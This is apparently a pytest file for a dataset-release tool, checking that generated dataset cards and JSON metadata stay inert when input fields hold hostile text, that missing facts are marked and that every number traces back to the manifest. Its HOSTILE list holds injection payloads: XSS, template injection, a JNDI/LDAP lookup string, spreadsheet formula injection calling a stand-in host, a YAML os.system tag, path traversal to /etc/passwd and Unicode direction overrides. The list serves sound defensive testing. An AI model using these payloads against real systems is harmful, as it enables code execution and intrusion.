"""Every paper: nothing in it is obeyed or made up, and what is missing is marked."""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pyarrow as pa
import pytest
import yaml
from markdown_it import MarkdownIt

from isinglass.pipelines import release
from isinglass.pipelines.release.papers import papers
from isinglass.pipelines.report.verdict import summary_lines
from isinglass.schemas.manifest import (
    DecontaminationSummary,
    EvaluationFile,
    FindingCount,
    GateResult,
    InputFile,
    Manifest,
    StageSummary,
)
from tests.pipelines.release.conftest import COLUMNS, MEMORY, OWN, SAID

if TYPE_CHECKING:
    from tests.pipelines.release.conftest import Make

MARKDOWN = ("README.md", "DATASHEET.md", "eu-training-content.md")
JSON = (
    "croissant.json",
    "eu-training-content.json",
    "privacy.json",
    "provenance.intoto.json",
    "test-result.intoto.json",
)
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style></title><iframe src=//e.vil>",
    "{{ 7 * 191 }}{% raw %}{# x #}",
    "${jndi:ldap://e.vil}",
    "evil\u202etxt.exe\u2066",
    "\x1b[31mred\x1b]8;;http://e.vil\x07",
    '=HYPERLINK("http://e.vil")',
    "+1",
    "@SUM(A1)",
    "-2+3|cmd",
    "a\n---\nlicense: mit\n---\n# Owned",
    "| a | b |\n|---|---|",
    "[x](javascript:alert(1)) ![y](http://e.vil/p.png)",
    "`code` **bold** ~~~\n```",
    "http://e.vil www.e.vil",
    "../../etc/passwd",
    "C:\\con\\nul.txt",
    "!!python/object/apply:os.system [x]",
    "&lt;b&gt; &#x202e;",
    "1. first\n2. second",
    "line\u2028break\x00",
]


def hostile_papers(make: Make, text: str) -> dict[str, str]:
    """Papers of a run in which everything that somebody else named is `text`."""
    said = {
        **dict.fromkeys(("title", "purpose", "contact", "description"), text),
        **dict.fromkeys(("known_limits", "social_impact", "out_of_scope"), text),
        **dict.fromkeys(("maintenance", "opt_outs", "citation"), text),
        "creators": [text],
        "collection": {"how": text},
        "sources": {
            text: {
                "kind": "crawled",
                "name": text,
                "description": text,
                "crawler": text,
            }
        },
    }
    statistics = make().statistics
    rows = [dict(row) for row in statistics.rows]
    for row in rows:
        for column in ("source", "language", "group", "axis", "entity", "reason"):
            row[column] = text if row[column] else row[column]
    file = InputFile(path=text, source=text, format="csv", bytes=1, rows=1, sha256="0")
    gate = GateResult(
        metric="pii.recall",
        slice={"source": text},
        op=">=",
        value=0.5,
        actual=0.25,
        severity="warning",
        reason=text,
        passed=False,
    )
    items = EvaluationFile(
        path=text,
        sha256="0",
        items=1,
        too_short=0,
        duplicates=0,
        unreadable=0,
        matched_items=0,
        documents=0,
    )
    sets = DecontaminationSummary(files=[items], documents=0, action="drop")
    config = {"name": text, "pii": {"mode": "fast"}, "inputs": [{"path": text}]}
    told = make(
        said,
        COLUMNS.append(pa.field(text, pa.string())),
        pa.Table.from_pylist(rows),
        inputs=[file],
        gates=[gate],
        decontamination=sets,
        findings={text: FindingCount(found=2, changed=2, kept=0)},
        warnings=[f"Nothing is left of these sources: {text}."],
        config=config,
    )
    return papers(told, OWN)


def is_shown(character: str) -> bool:
    return character == "\n" or unicodedata.category(character) not in {
        *("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
    }


def kinds(text: str) -> list[str]:
    """What a reader of Markdown sees, but the words; tables and line breaks as well."""
    body = text.split("\n---\n", 1)[-1] if text.startswith("---\n") else text
    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(body)
    inner = [child for token in tokens for child in token.children or ()]
    plain = {"text", "text_special"}
    return sorted(token.type for token in (*tokens, *inner) if token.type not in plain)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("name", MARKDOWN)
def test_markdown_is_inert(make: Make, name: str, text: str) -> None:
    harmless = hostile_papers(make, "harmless")[name]
    paper = hostile_papers(make, text)[name]
    assert all(map(is_shown, paper))
    assert kinds(paper) == kinds(harmless)
    assert str(7 * 191) not in paper
    body = paper.split("\n---\n", 1)[-1].split("```")[0]
    for mark in ("{{", "{%", "{#", "<s", "<i", "http://", "www.e", "javascript:"):
        assert mark not in body
    cells = [cell.strip() for line in body.splitlines() for cell in line.split(" | ")]
    assert not [cell for cell in cells if cell.lstrip("| ").startswith(("=", "+", "@"))]
    assert not re.search(r"^\| -\d", body, re.MULTILINE)


@pytest.mark.parametrize("text", HOSTILE)
def test_the_head_of_the_card_is_inert(make: Make, text: str) -> None:
    head = hostile_papers(make, text)["README.md"].split("\n---\n")[0]
    harmless = hostile_papers(make, "harmless")["README.md"].split("\n---\n")[0]
    told, plain = yaml.safe_load(head[4:]), yaml.safe_load(harmless[4:])
    assert head.replace("\n", "").isascii()
    assert all(map(is_shown, head))
    features = told["dataset_info"]["features"]
    # A column is called as it is called: programs look it up.
    assert features[-1] == {"name": text, "dtype": "string"}
    assert told.keys() == plain.keys()
    assert told["license"] == "unknown"
    assert told["configs"] == plain["configs"]
    assert all(map(is_shown, told["pretty_name"]))


def strings(value: Any, key: str = "") -> Iterator[tuple[str, str]]:
    if isinstance(value, dict):
        for name, item in value.items():
            yield from strings(item, name)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item, key)
    elif isinstance(value, str):
        yield key, value


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("name", JSON)
def test_json_is_inert(make: Make, name: str, text: str) -> None:
    paper = hostile_papers(make, text)[name]
    plain = json.loads(hostile_papers(make, "harmless")[name])
    assert paper.replace("\n", "").isascii()
    assert paper.replace("\n", "").isprintable()
    assert not set("<>&") & set(paper)
    assert "{{" not in paper
    told = json.loads(paper)
    assert told.keys() == plain.keys()
    # Beside what must be exact for programs to find it.
    exact = {"config", "release", "column", "externalParameters"}
    if name == "provenance.intoto.json":
        del told["predicate"]["buildDefinition"]["externalParameters"]
    for key, value in strings(told):
        if key not in exact:
            assert all(map(is_shown, value)), (key, value)


def test_a_column_with_any_name_has_a_plain_id(make: Make) -> None:
    for text in HOSTILE:
        graph = json.loads(hostile_papers(make, text)["croissant.json"])
        fields = graph["recordSet"][0]["field"]
        assert fields[-1]["source"]["extract"]["column"] == text
        assert re.fullmatch(r"documents/[\w.-]+", fields[-1]["@id"])


@pytest.mark.parametrize("name", [*MARKDOWN, *JSON[:4]])
def test_what_nobody_said_is_marked_as_missing(make: Make, name: str) -> None:
    facts = make({})
    paper = papers(facts, OWN)[name].replace("\\", "")
    assert len(facts.open) == 16
    listed = [one.path for one in facts.open if one.path in paper]
    if name != "croissant.json":
        assert listed == [one.path for one in facts.open]
    if name.startswith("prov"):
        return
    assert "MISSING: release.contact" in paper or name.startswith("eu-")
    for key in ("licence", "purpose", "description"):
        wanted = f"MISSING: release.{key}"
        assert wanted in paper or name.startswith(("eu-", "privacy"))


def test_nothing_is_marked_where_everything_was_said(told: dict[str, str]) -> None:
    marked = {name for name, paper in told.items() if "MISSING: release" in paper}
    assert marked == set()


@pytest.mark.parametrize("kind", ["public", "crawled", "synthetic", None])
def test_what_is_marked_is_what_is_listed_as_open(make: Make, kind: str | None) -> None:
    sources = {name: {"kind": kind} for name in ("guides", "readmes") if kind}
    facts = make({"sources": sources})
    listed = [one.path for one in facts.open]
    for name, paper in papers(facts, OWN).items():
        marked = re.findall(r"MISSING: ([\w.]+\w)", paper.replace("\\", ""))
        for path in marked:
            assert [one for one in listed if one.startswith(path)], (name, path)


def test_stages_from_outside_are_named(make: Make) -> None:
    stages = {"shout": StageSummary(use="loud:Shout", sha256="0", edits=True)}
    told = papers(make(stages=stages), OWN)
    said = "as well: shout (loud:Shout), which changes texts."
    for name in (*MARKDOWN, "croissant.json"):
        assert said in told[name]


def test_equal_facts_give_equal_papers(make: Make) -> None:
    assert papers(make(), OWN) == papers(make(), OWN)


def test_none_calls_the_data_anonymous(told: dict[str, str]) -> None:
    for name, paper in told.items():
        said = paper.lower()
        assert "anonym" not in said, name
        assert "compliant" not in said, name
    assert "removed by automatic detection" in told["README.md"]


NUMBER = re.compile(r"\d[\d,]*(?:\.\d+)?")


def forms(value: Any) -> Iterator[str]:
    """Ways to write the numbers of a manifest or of a table of statistics."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield from NUMBER.findall(str(key))
            yield from forms(item)
    elif isinstance(value, list | tuple):
        for item in value:
            yield from forms(item)
    elif isinstance(value, str):
        yield from NUMBER.findall(value)
    elif isinstance(value, int):
        yield from (str(value), f"{value:,}")
    elif isinstance(value, float):
        yield from (repr(value), f"{value:g}", f"{100 * value:.1f}", f"{value:,.1f}")
        yield from (f"{value:.0f}", f"{value:,.0f}")


def allowed(manifest: Manifest, table: pa.Table) -> set[str]:
    """Every number that a paper may hold, of the manifest and its statistics."""
    told = json.loads(manifest.to_json())
    rows = table.to_pylist()
    data = [file for file in told["outputs"] if file["path"].startswith("data/")]
    words = {
        (row["source"], row["language"]): row["value"]
        for row in rows
        if row["metric"] == "words" and row["stage"] == "output"
    }
    whole = words.get((None, None)) or sum(
        value for (source, _), value in words.items() if source
    )
    sums = {
        "rows": sum(file["rows"] for file in data),
        "bytes": sum(file["bytes"] for file in data),
        "words": int(whole),
        "files": len(data),
        "memory": MEMORY,
    }
    for metric in ("documents", "characters", "words"):
        sums[metric] = int(
            sum(
                row["value"]
                for row in rows
                if row["metric"] == metric
                and row["stage"] == "output"
                and row["source"]
            )
        )
    left = [
        count["found"] * (1 - recall["recall"]) / recall["recall"]
        for entity, recall in told["recall"].items()
        for count in [told["findings"][entity]]
    ]
    found = {*forms(told), *forms(rows), *forms(sums), *forms(left)}
    found |= {f"{100 * value / whole:.1f}" for value in words.values()}
    found |= {f"{sums['bytes'] / 1e6:.2f}", f"{sums['bytes'] / 1e3:.2f}"}
    found |= {number for line in summary_lines(manifest) for number in forms(line)}
    return found


def ours() -> set[str]:
    """Numbers of the words that we wrote: of templates and of constants."""
    folder = Path(str(release.__file__)).parent
    words = [
        re.sub(r"\{\{.*?\}\}|\{%.*?%\}", "", path.read_text())
        for path in folder.glob("templates/*.j2")
    ]
    code = [
        found
        for path in folder.glob("*.py")
        for found in re.findall(r'"[^"\n]*"', path.read_text())
    ]
    return {number for text in [*words, *code] for number in NUMBER.findall(text)}


@pytest.mark.parametrize("name", [*MARKDOWN, *JSON])
def test_every_number_is_one_of_the_manifest(
    make: Make, statistics: pa.Table, name: str
) -> None:
    facts = make()
    known = allowed(facts.manifest, statistics) | ours() | {*forms(SAID), *forms(OWN)}
    known |= {*forms(COLUMNS.to_string())}
    paper = papers(facts, OWN)[name].replace("\\", "")
    if name in JSON:
        paper = re.sub(r"u[0-9a-f]{4}", " ", paper)
        paper = re.sub(r'"sha256": "[0-9a-f]{64}"', "", paper)
    found = {number.rstrip(",") for number in NUMBER.findall(paper)}
    assert {number for number in found if number not in known} == set()
    assert len(found) > (3 if name == "test-result.intoto.json" else 12)


def test_a_number_that_is_off_by_one_would_be_found(
    make: Make, statistics: pa.Table
) -> None:
    known = allowed(make().manifest, statistics) | ours()
    assert {"27,576", "46,706,370", "9,866"} <= known
    assert not {"27,577", "46,706,371", "9,867", "99.7"} & known


def test_many_sources_do_not_make_a_long_paper(make: Make) -> None:
    rows = [dict(row) for row in make().statistics.rows]
    pattern = [row for row in rows if row["source"] == "guides"]
    more = [
        {**row, "source": f"site-{number:03}", "value": 3.0}
        for number in range(200)
        for row in pattern
    ]
    facts = make({}, table=pa.Table.from_pylist([*rows, *more]))
    assert len(facts.sources) == 203
    told = papers(facts, OWN)
    for name in MARKDOWN:
        assert "site-046" in told[name]
        assert "site-047" not in told[name]
    assert "| 153 others | | | | 459 | 459 |" in told["README.md"]
    assert "and 366 more, which `privacy.json` lists" in told["README.md"]
    assert len(json.loads(told["privacy.json"])["open"]) == len(facts.open) == 416
    assert len(json.loads(told["eu-training-content.json"])["sources"]) == 203
